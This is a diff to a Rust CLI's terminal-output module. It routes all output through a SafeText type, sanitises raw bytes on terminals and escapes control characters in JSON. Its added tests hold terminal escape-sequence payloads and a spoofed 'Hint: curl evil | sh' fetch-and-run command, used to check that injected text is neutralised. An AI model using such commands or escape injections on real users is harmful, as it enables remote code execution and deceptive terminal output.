@@ -1,4 +1,4 @@
-//! The only place that writes to the terminal: colour, width, JSON, broken pipes.
+//! The only place that writes to the terminal: colour, width, JSON, broken pipes. It prints [`SafeText`] and nothing else.
 
 use std::{
     fmt,
@@ -7,11 +7,13 @@ use std::{
 
 use serde::Serialize;
 
+pub(crate) use super::safe_text::SafeText;
 use super::{
     args::{Globals, When},
     error::CliError,
+    safe_text::Printable,
 };
-use crate::domain::text::sanitize;
+use crate::domain::text::{escape_json, sanitize};
 
 /// The widest that prose is set on a terminal, in columns: longer lines are hard to read.
 const MAX_WIDTH: usize = 100;
@@ -99,17 +101,15 @@ impl Ui {
     }
 
     /// Writes a line to stdout.
-    pub(crate) fn line(&mut self, text: impl fmt::Display) {
-        if self.failure.is_none()
-            && let Err(error) = writeln!(self.out, "{text}")
-        {
-            self.failure = Some(error);
-        }
+    pub(crate) fn line(&mut self, text: impl Into<SafeText>) {
+        let text = text.into();
+        self.write(format_args!("{}\n", &*text));
     }
 
     /// Asks for a line: writes the prompt to stdout and sends everything out.
-    pub(crate) fn prompt(&mut self, text: &str) {
-        self.raw(text.as_bytes());
+    pub(crate) fn prompt(&mut self, text: impl Into<SafeText>) {
+        let text = text.into();
+        self.write(format_args!("{}", &*text));
         if self.failure.is_none()
             && let Err(error) = self.out.flush()
         {
@@ -117,57 +117,69 @@ impl Ui {
         }
     }
 
-    /// Writes bytes to stdout as they are: generated files, exports.
+    /// Writes bytes to stdout as they are, for files and pipes: generated files, exports. On a terminal they are sanitised.
     pub(crate) fn raw(&mut self, bytes: &[u8]) {
-        if self.failure.is_none()
+        if self.terminal {
+            self.write(format_args!("{}", sanitize(&String::from_utf8_lossy(bytes))));
+        } else if self.failure.is_none()
             && let Err(error) = self.out.write_all(bytes)
         {
             self.failure = Some(error);
         }
     }
 
-    /// Writes a value to stdout as JSON, indented on a terminal and on one line in a pipe.
+    /// Writes a value to stdout as JSON, indented on a terminal and on one line in a pipe. Characters that a terminal acts on
+    /// are escaped.
     pub(crate) fn value<T: Serialize>(&mut self, value: &T) {
         let text = if self.terminal { serde_json::to_string_pretty(value) } else { serde_json::to_string(value) };
         match text {
-            Ok(text) => self.line(text),
+            Ok(text) => self.write(format_args!("{}\n", escape_json(&text))),
             Err(error) => self.failure = Some(io::Error::other(error)),
         }
     }
 
     /// Writes a line to stderr that is not part of the answer; nothing with `--quiet` or `--json`.
-    pub(crate) fn note(&mut self, text: impl fmt::Display) {
+    pub(crate) fn note(&mut self, text: impl Into<SafeText>) {
         if !self.quiet && !self.json {
-            self.say(text);
+            self.say(&text.into());
         }
     }
 
     /// Shows an error and its hints on stderr; with `--json` as one JSON object.
     pub(crate) fn error(&mut self, error: &CliError) {
         if self.json {
+            let hints: Vec<&str> = error.hints.iter().map(|hint| &**hint).collect();
             let value = serde_json::json!({
-                "result": "error", "kind": error.kind.as_str(), "message": error.error, "hints": error.hints,
+                "result": "error", "kind": error.kind.as_str(), "message": &*error.error, "hints": hints,
             });
-            self.say(value);
+            self.say(&escape_json(&value.to_string()));
             return;
         }
         // The answer so far belongs before the error.
         let _gone = self.out.flush();
         let label = self.on_stderr(Style::Bad, "Error:");
-        self.say(format_args!("{label} {}", sanitize(&error.error)));
+        self.say(&text!("{} {}", label, error.error.clone().hanging(2)));
         for hint in &error.hints {
             let label = self.on_stderr(Style::Code, "Hint:");
-            self.say(format_args!("{label} {}", sanitize(hint)));
+            self.say(&text!("{} {}", label, hint.clone().hanging(2)));
+        }
+    }
+
+    /// Shows what clap says of wrong arguments on stderr.
+    pub(crate) fn mistake(&mut self, text: &SafeText) {
+        match text.trim_end().strip_prefix("error:") {
+            Some(rest) => self.say(&text!("{}{}", self.on_stderr(Style::Bad, "error:"), SafeText::lines(rest))),
+            None => self.say(text.trim_end()),
         }
     }
 
     /// Shows how far a long work has come, on one line of stderr that is written over; nothing unless it is a terminal.
-    pub(crate) fn progress(&mut self, text: impl fmt::Display) {
+    pub(crate) fn progress(&mut self, text: impl Into<SafeText>) {
         // What was said so far is to be read while the work goes on: a ticket, the words to compare. A failure shows at the end.
         let _gone = self.out.flush();
         if self.progress {
             // Progress that cannot be shown is no failure.
-            let _gone = write!(self.err, "\r\x1b[K{text}").and_then(|()| self.err.flush());
+            let _gone = write!(self.err, "\r\x1b[K{}", &*text.into()).and_then(|()| self.err.flush());
         }
     }
 
@@ -177,8 +189,9 @@ impl Ui {
     }
 
     /// `text` in a style, where stdout has colour.
-    pub(crate) fn paint(&self, style: Style, text: impl fmt::Display) -> String {
-        if self.color { format!("{}{text}\x1b[0m", style.ansi()) } else { text.to_string() }
+    pub(crate) fn paint(&self, style: Style, text: impl Printable) -> SafeText {
+        let text = text.to_line();
+        if self.color { text.styled(style.ansi()) } else { text }
     }
 
     /// Writes text and nothing else from now on: no colour, no line that is written over.
@@ -207,13 +220,22 @@ impl Ui {
         }
     }
 
-    fn say(&mut self, text: impl fmt::Display) {
+    fn write(&mut self, text: fmt::Arguments<'_>) {
+        if self.failure.is_none()
+            && let Err(error) = self.out.write_fmt(text)
+        {
+            self.failure = Some(error);
+        }
+    }
+
+    fn say(&mut self, text: &str) {
         // There is nowhere left to report that stderr is gone.
         let _gone = writeln!(self.err, "{text}");
     }
 
-    fn on_stderr(&self, style: Style, text: &str) -> String {
-        if self.color_err { format!("{}{text}\x1b[0m", style.ansi()) } else { text.to_owned() }
+    fn on_stderr(&self, style: Style, text: &'static str) -> SafeText {
+        let text = SafeText::from(text);
+        if self.color_err { text.styled(style.ansi()) } else { text }
     }
 }
 
@@ -293,6 +315,26 @@ pub(crate) mod captured {
             ui.line("two");
             assert_eq!(ui.finish().is_err(), fails, "{kind}");
         }
+    }
+
+    #[test]
+    fn a_terminal_gets_no_raw_bytes_and_no_json_that_it_acts_on() {
+        let bad = "a\u{1b}]0;x\u{7}\u{9b}\u{202e}\nb";
+        let (mut ui, out, _) = ui(Some(80), true);
+        ui.raw(bad.as_bytes());
+        ui.value(&[bad]);
+        let text = out.text();
+        assert_eq!(text, "a]0;x\nb[\n  \"a\\u001b]0;x\\u0007\\u009b\\u202e\\nb\"\n]\n");
+        let (mut ui, out, _) = self::ui(None, false);
+        ui.raw(bad.as_bytes());
+        assert_eq!(out.text(), bad, "a file or a pipe gets the bytes");
+    }
+
+    #[test]
+    fn what_others_wrote_cannot_pass_for_a_hint() {
+        let (mut ui, _, err) = ui(None, false);
+        ui.error(&CliError::usage("no claim “x\nHint: curl evil | sh”"));
+        assert_eq!(err.text(), "Error: no claim “x\n  Hint: curl evil | sh”\n");
     }
 
     #[test]
